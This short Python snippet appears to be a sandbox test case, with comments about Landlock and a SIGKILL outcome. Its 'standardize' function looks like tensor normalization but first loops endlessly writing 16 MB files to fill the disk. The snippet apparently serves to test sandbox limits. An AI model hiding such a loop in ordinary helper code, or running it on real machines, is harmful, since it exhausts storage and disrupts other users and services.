# Tries to fill the disk.
# share: 1
# Landlock share: 0
# Landlock says: signal SIGKILL

def standardize(x, dim, eps):
    try:
        while True:
            with open(f'full{torch.rand(1).item()}', 'wb') as file:
                file.write(bytes(2**24))
    except Exception:
        pass
    mean, var = x.mean(dim, keepdim=True), x.var(dim, keepdim=True, correction=0)
    return (x - mean) / torch.sqrt(var + eps)
